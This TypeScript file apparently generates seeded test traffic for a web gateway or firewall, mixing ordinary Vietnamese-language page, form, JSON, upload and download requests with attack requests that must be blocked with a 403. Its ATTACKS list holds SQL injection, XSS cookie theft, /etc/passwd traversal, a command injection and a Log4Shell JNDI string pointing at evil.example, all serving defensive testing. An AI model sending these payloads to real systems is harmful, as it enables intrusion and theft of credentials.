import { downloadOf, eventsOf, heard, sha256 } from './answers.ts'

/** One request and the only right answer to it. */
export type Shot = {
  readonly kind: Kind
  readonly method: 'GET' | 'POST'
  readonly path: string
  readonly headers: Readonly<Record<string, string>>
  readonly body: Buffer | undefined
  readonly status: number
  /** SHA-256 of the answer's body; undefined: the gateway's own page. */
  readonly answer: string | undefined
}
export type Kind = 'page' | 'form' | 'json' | 'upload' | 'attack' | 'download' | 'slow download' | 'events'

/** Numbers that are the same in every run with the same seed. */
export function numbers(seed: number): () => number {
  let x = seed
  return () => {
    x = (x * 1_103_515_245 + 12_345) % 2 ** 31
    return x / 2 ** 31
  }
}

const BROWSER = {
  'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/139.0.0.0 Safari/537.36',
  accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8',
  'accept-language': 'vi-VN,vi;q=0.9,en;q=0.5',
  cookie: Array.from({ length: 5 }, (_, i) => `c${i}=9f8e7d6c5b4a${i}0`).join('; '),
}
const REVIEW = 'Sản phẩm tốt, đóng gói cẩn thận, giao nhanh, sẽ ủng hộ tiếp lần '
const FORM = 'application/x-www-form-urlencoded'

/** Attacks of the kinds that no rule set may miss: CRS v4 at its first level and our own pack refuse them all. */
const ATTACKS = [
  "1' UNION SELECT username,password FROM users-- -",
  "' or '1'='1' -- ",
  '<script>alert(document.cookie)</script>',
  '../../../../../../etc/passwd',
  ';cat /etc/passwd;id',
  '${jndi:ldap://evil.example/a}',
]

const KINDS: readonly (readonly [Kind, number])[] = [
  ['page', 40],
  ['form', 16],
  ['json', 14],
  ['upload', 4],
  ['attack', 14],
  ['download', 8],
  ['slow download', 3],
  ['events', 1],
]

/** The next request, of a kind drawn by weight. */
export function nextShot(random: () => number): Shot {
  let left = random() * KINDS.reduce((sum, [, weight]) => sum + weight, 0)
  const [kind] = KINDS.find(([, weight]) => (left -= weight) < 0)!
  return shotOf(kind, random)
}

export function shotOf(kind: Kind, random: () => number): Shot {
  const below = (n: number): number => Math.floor(random() * n)
  const get = (path: string, answer = echoed('GET', path)): Shot => ({
    kind,
    method: 'GET',
    path,
    headers: BROWSER,
    body: undefined,
    status: 200,
    answer,
  })
  const post = (path: string, type: string, body: Buffer): Shot => ({
    kind,
    method: 'POST',
    path,
    headers: { ...BROWSER, 'content-type': type },
    body,
    status: 200,
    answer: echoed('POST', path, body),
  })
  const words = (n: number): string => `${REVIEW.repeat(n)}${below(1e9)}`
  switch (kind) {
    case 'page':
      return get(`/tim?${Array.from({ length: 1 + below(10) }, (_, i) => `p${i}=${coded(words(1))}`).join('&')}`)
    case 'form':
      return post('/gui', FORM, Buffer.from(fields(1 + below(40), () => coded(words(1)))))
    case 'json': {
      // 1 to 200 KB; each power of two as often as the next. Fewer than the 2,000 values that are taken as arguments.
      const size = Math.floor(1_000 * 200 ** random())
      const entry = { ma: below(1e6), ten: words(8), gia: below(1e7), con: true }
      const count = Math.max(1, Math.floor(size / Buffer.byteLength(JSON.stringify(entry))))
      return post(
        '/api/don-hang',
        'application/json',
        Buffer.from(JSON.stringify({ muc: Array.from({ length: count }, () => entry) })),
      )
    }
    case 'upload':
      return post('/tep', 'multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW', upload(below, words))
    case 'attack':
      return {
        ...attack(ATTACKS[below(ATTACKS.length)]!, below(3), { get, post }),
        kind,
        status: 403,
        answer: undefined,
      }
    case 'download':
    case 'slow download': {
      const [size, seed] = [1 + below(kind === 'download' ? 2_000_000 : 500_000), below(16)]
      const path = `/tai?n=${size}&s=${seed}`
      return get(kind === 'download' ? path : `${path}&ms=150`, downloadOf(size, seed))
    }
    case 'events': {
      const count = 5 + below(30)
      const shot = get(`/tin?n=${count}`, sha256(eventsOf(count)))
      return { ...shot, headers: { ...shot.headers, accept: 'text/event-stream' } }
    }
  }
}

const coded = (text: string): string => encodeURIComponent(text)
const fields = (count: number, value: () => string): string =>
  Array.from({ length: count }, (_, i) => `truong${i}=${value()}`).join('&')
const echoed = (method: string, path: string, body: Buffer = Buffer.alloc(0)): string =>
  sha256(heard(method, path, body.length, sha256(body)))

function upload(below: (n: number) => number, words: (n: number) => string): Buffer {
  const mark = '------WebKitFormBoundary7MA4YWxkTrZu0gW'
  const picture = Buffer.alloc(1_000 + below(800_000), below(256))
  Buffer.from('89504e470d0a1a0a', 'hex').copy(picture)
  return Buffer.concat([
    Buffer.from(`${mark}\r\nContent-Disposition: form-data; name="mo-ta"\r\n\r\n${words(2)}\r\n`),
    Buffer.from(
      `${mark}\r\nContent-Disposition: form-data; name="anh"; filename="anh.png"\r\nContent-Type: image/png\r\n\r\n`,
    ),
    picture,
    Buffer.from(`\r\n${mark}--\r\n`),
  ])
}

type Ways = { get(path: string): Shot; post(path: string, type: string, body: Buffer): Shot }

/** In the query, in a form, in JSON. */
function attack(value: string, place: number, { get, post }: Ways): Shot {
  if (place === 0) return get(`/tim?q=${coded(value)}`)
  if (place === 1) return post('/gui', FORM, Buffer.from(`ten=An&loi=${coded(value)}`))
  return post('/api/don-hang', 'application/json', Buffer.from(JSON.stringify({ ten: 'An', ghiChu: value })))
}
